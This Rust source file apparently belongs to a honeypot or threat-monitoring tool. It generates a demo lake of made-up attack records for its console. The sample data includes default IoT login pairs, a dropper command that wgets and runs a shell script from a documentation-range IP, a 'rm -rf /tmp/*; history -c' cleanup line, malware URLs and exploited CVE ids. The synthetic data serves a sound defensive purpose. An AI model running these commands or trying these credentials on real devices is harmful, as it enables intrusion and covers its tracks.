//! `komainu lake demo`: a lake of made-up attacks beside the real one, for those who want to see what the console looks like.
//!
//! It is a folder of its own in the data folder. While it is there, the console shows it instead of the real lake, and says so on
//! every page; sensors go on to fill the real one.

use std::fs;
use std::io::ErrorKind;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, SystemTime};

use anyhow::{Context, bail};
use clap::Args;
use komainu_console::{Lakes, ShownLake};
use komainu_lake::{LakeLimits, MadeUpAttacks, ParquetLake};
use komainu_model::Timestamp;
use komainu_ports::{
    BATCH_ROWS_MAX, Clock, Lake, LakeBatchName, LakeRows, LakeRowsBuilder, LakeTable, LakeValue, LakeValues,
    SystemClock,
};
use parking_lot::Mutex;

use crate::DataArgs;

/// The folder in the data folder.
const FOLDER: &str = "lake-demo";

/// What is being made, or removed, has this name meanwhile: the console never sees half of it.
const UNFINISHED: &str = "lake-demo.unfinished";

/// Rows that are made at once.
const ROWS_AT_ONCE: usize = BATCH_ROWS_MAX / 16;

/// The most attacks that are made up: what the lake is measured with.
const ATTACKS_MAX: u64 = 200_000_000;

/// The most days.
const DAYS_MAX: usize = 1_000;

/// One attack of so many shows something.
const ATTACKS_FOR_AN_OBSERVABLE: u64 = 5;

/// The same attacks each time.
const SEED: u64 = 5;

#[derive(Debug, Args)]
pub(crate) struct DemoArgs {
    /// So many attacks.
    #[arg(long, value_name = "N", default_value_t = 1_000_000, value_parser = clap::value_parser!(u64).range(1..=ATTACKS_MAX))]
    attacks: u64,
    /// On so many days up to now.
    #[arg(long, value_name = "D", default_value_t = 400)]
    days: usize,
    /// Remove them instead.
    #[arg(long, conflicts_with_all = ["attacks", "days"])]
    remove: bool,
    #[command(flatten)]
    folder: DataArgs,
}

pub(crate) fn run(args: &DemoArgs) -> anyhow::Result<()> {
    let data = &args.folder.data;
    if args.remove {
        return remove(data);
    }
    if !(1..=DAYS_MAX).contains(&args.days) {
        bail!("--days is 1 to {DAYS_MAX}");
    }
    make(data, args.attacks, args.days, SystemClock.now())
}

fn make(data: &Path, attacks: u64, days: usize, now: Timestamp) -> anyhow::Result<()> {
    let (folder, unfinished) = (data.join(FOLDER), data.join(UNFINISHED));
    if folder.exists() {
        bail!("there are made-up attacks already; remove them first with `komainu lake demo --remove`");
    }
    fs::create_dir_all(data).with_context(|| format!("cannot make {}", data.display()))?;
    delete(&unfinished)?;
    let lake = ParquetLake::open(&unfinished, LakeLimits::default()).context("cannot make the lake")?;
    let first = now.minus(Duration::from_secs((days as u64 - 1) * 86_400));
    let mut made = MadeUpAttacks::new(SEED, first, days, attacks);
    let (mut rows_made, mut observables) = (0_u64, 0_u64);
    for sequence in 1.. {
        let Some(rows) = made.next_rows(ROWS_AT_ONCE) else { break };
        let rows = until(rows, now)?;
        if rows.is_empty() {
            continue;
        }
        let shown = observables_of(&rows);
        (rows_made, observables) = (rows_made + rows.len() as u64, observables + shown.len() as u64);
        let name = LakeBatchName { stream: "demo".to_owned(), sequence };
        lake.append(&name, &[rows, shown])?;
        lake.keep(now)?;
    }
    lake.keep_all(now)?;
    drop(lake);
    fs::rename(&unfinished, &folder).context("cannot put the made-up attacks where the console finds them")?;
    println!(
        "{rows_made} made-up attacks on {days} days and {observables} observables are in {}; the console shows them.\n\
         End that with `komainu lake demo --remove --data {}`",
        folder.display(),
        data.display()
    );
    Ok(())
}

fn remove(data: &Path) -> anyhow::Result<()> {
    let (folder, unfinished) = (data.join(FOLDER), data.join(UNFINISHED));
    delete(&unfinished)?;
    match fs::rename(&folder, &unfinished) {
        Ok(()) => {}
        Err(error) if error.kind() == ErrorKind::NotFound => {
            println!("there are no made-up attacks in {}", data.display());
            return Ok(());
        }
        Err(error) => return Err(error).with_context(|| format!("cannot remove {}", folder.display())),
    }
    delete(&unfinished)?;
    println!("the made-up attacks are gone; the console shows real ones");
    Ok(())
}

fn delete(folder: &Path) -> anyhow::Result<()> {
    match fs::remove_dir_all(folder) {
        Err(error) if error.kind() != ErrorKind::NotFound => {
            Err(error).with_context(|| format!("cannot remove {}", folder.display()))
        }
        _ => Ok(()),
    }
}

/// Those of the rows, which are in the order of their times, that are not in the future.
fn until(rows: LakeRows, now: Timestamp) -> anyhow::Result<LakeRows> {
    let count = rows.times().partition_point(|at| *at < now.unix_millis());
    if count == rows.len() {
        return Ok(rows);
    }
    let table = rows.table();
    let mut columns = rows.into_columns();
    for column in &mut columns {
        match column {
            LakeValues::Time(values) => values.truncate(count),
            LakeValues::Text { codes, .. } => codes.truncate(count),
            LakeValues::Number(values) => values.truncate(count),
            LakeValues::Float(values) => values.truncate(count),
        }
    }
    Ok(LakeRows::from_columns(table, columns)?)
}

/// What is shown in attacks: where somebody logs in a credential, at times commands, a URL and a file; on the Web a weakness.
fn observables_of(attacks: &LakeRows) -> LakeRows {
    const CREDENTIALS: &[&str] = &[
        "root:root",
        "admin:admin",
        "root:123456",
        "admin:1234",
        "support:support",
        "root:vizxv",
        "user:user",
        "root:xc3511",
        "guest:guest",
        "root:888888",
        "admin:password",
        "root:default",
        "ubnt:ubnt",
        "root:juantech",
    ];
    const COMMANDS: &[&str] = &[
        "enable; system; shell; sh",
        "/bin/busybox DEMO",
        "cat /proc/mounts",
        "uname -a",
        "cat /proc/cpuinfo",
        "cd /tmp || cd /var/run; wget http://203.0.113.80/demo.sh; sh demo.sh",
        "rm -rf /tmp/*; history -c",
        "free -m",
    ];
    const URLS: &[&str] = &[
        "http://203.0.113.80/demo.sh",
        "http://203.0.113.80/demo.arm7",
        "http://198.51.100.7/bins/demo.mips",
        "http://192.0.2.44/w.sh",
    ];
    const FILES: &[&str] = &[
        "d0d0d0d0aaaaaaaa000000000000000000000000000000000000000000000001",
        "d0d0d0d0bbbbbbbb000000000000000000000000000000000000000000000002",
        "d0d0d0d0cccccccc000000000000000000000000000000000000000000000003",
    ];
    const WEAKNESSES: &[&str] =
        &["CVE-2017-17215", "CVE-2014-8361", "CVE-2018-10561", "CVE-2021-36260", "CVE-2020-8515", "CVE-2023-1389"];
    const TECHNIQUES: &[&str] = &["T1110.001", "T1059.004", "T1105", "T1082", "T1190"];
    const AGENTS: &[&str] = &["Mozilla/5.0 zgrab/0.x", "Go-http-client/1.1", "curl/7.64.0", "masscan/1.3", "-"];
    let column = |name: &str| LakeTable::Attacks.column(name).expect("attacks have these columns");
    let [source, country, sensor, appliance, model, protocol, label, release] =
        ["source", "country", "sensor", "appliance", "model", "protocol", "label", "release"].map(column);
    let mut rows = LakeRowsBuilder::new(LakeTable::Observables);
    for row in 0..attacks.len() {
        let chance = mixed(attacks.times()[row] as u64 ^ (row as u64) << 44);
        if !chance.is_multiple_of(ATTACKS_FOR_AN_OBSERVABLE) {
            continue;
        }
        let text = |column: usize| attacks.value(row, column);
        let (spoken, judged) = (text(protocol).to_string(), text(label).to_string());
        // The first of each come more often than those behind them.
        let one = |words: &'static [&'static str], turn: u32| {
            let part = mixed(chance.rotate_left(turn)) as f64 / u64::MAX as f64;
            words[((part * part) * words.len() as f64) as usize % words.len()]
        };
        let mut push = |kind: &str, value: &str| {
            rows.push(&[
                LakeValue::Time(Timestamp::from_unix_millis(attacks.times()[row])),
                LakeValue::text(kind),
                LakeValue::text(value),
                text(source),
                text(country),
                text(sensor),
                text(appliance),
                text(model),
                text(protocol),
                text(release),
            ]);
        };
        if matches!(spoken.as_str(), "telnet" | "ssh" | "ftp") {
            push("credential", one(CREDENTIALS, 7));
            push("technique", TECHNIQUES[0]);
            if matches!(judged.as_str(), "exploit" | "dropper") {
                push("command", one(COMMANDS, 11));
                push("technique", one(TECHNIQUES, 13));
            }
        }
        if judged == "dropper" {
            push("url", one(URLS, 17));
            push("file", one(FILES, 19));
        }
        if spoken == "http" {
            push("user_agent", one(AGENTS, 23));
            if judged == "exploit" {
                push("cve", one(WEAKNESSES, 29));
            }
        }
    }
    rows.finish()
}

/// A number of which every bit depends on every bit of another: the last step of SplitMix64.
fn mixed(number: u64) -> u64 {
    let number = (number ^ number >> 30).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    let number = (number ^ number >> 27).wrapping_mul(0x94d0_49bb_1331_11eb);
    number ^ number >> 31
}

/// The lakes of a server: the made-up one as long as it is there, else the real one.
pub(crate) struct ServedLakes {
    real: Arc<dyn Lake>,
    demo: PathBuf,
    opened: Mutex<Option<(SystemTime, Arc<ParquetLake>)>>,
}

impl ServedLakes {
    pub(crate) fn new(real: Arc<dyn Lake>, data: &Path) -> Self {
        Self { real, demo: data.join(FOLDER), opened: Mutex::new(None) }
    }

    /// The made-up lake, opened once. One that was made anew is another.
    fn demo(&self) -> Option<Arc<ParquetLake>> {
        let mut opened = self.opened.lock();
        let Ok(made) = fs::metadata(&self.demo).and_then(|folder| folder.modified()) else {
            *opened = None;
            return None;
        };
        if let Some((of, lake)) = &*opened
            && *of == made
        {
            return Some(lake.clone());
        }
        // A demonstration that cannot be opened is none: what was recorded is shown.
        let lake = Arc::new(ParquetLake::open_to_read(&self.demo).ok()??);
        let made = fs::metadata(&self.demo).and_then(|folder| folder.modified()).unwrap_or(made);
        *opened = Some((made, lake.clone()));
        Some(lake)
    }
}

impl Lakes for ServedLakes {
    fn shown(&self) -> ShownLake {
        match self.demo() {
            Some(lake) => ShownLake::MadeUp(lake),
            None => ShownLake::Real(self.real.clone()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_demonstration_is_shown_until_it_is_removed() {
        let data = tempfile::tempdir().unwrap();
        let now = Timestamp::from_unix_seconds(1_700_000_000);
        let lakes = ServedLakes::new(Arc::new(komainu_ports::MemoryLake::default()), data.path());
        let is_made_up = || matches!(lakes.shown(), ShownLake::MadeUp(_));
        assert!(!is_made_up());
        make(data.path(), 2_000, 3, now).unwrap();
        assert!(make(data.path(), 1, 1, now).is_err(), "it is there already");
        let ShownLake::MadeUp(lake) = lakes.shown() else { panic!("it is not shown") };
        let state = lake.state().unwrap();
        let of = |table| state.iter().find(|state| state.table == table).unwrap();
        let attacks = of(LakeTable::Attacks);
        assert!(attacks.rows > 500 && attacks.times.unwrap().1 < now, "{attacks:?}");
        assert!(of(LakeTable::Observables).rows > 50);
        remove(data.path()).unwrap();
        assert!(!is_made_up());
        remove(data.path()).unwrap();
        assert_eq!(fs::read_dir(data.path()).unwrap().count(), 0);
    }
}
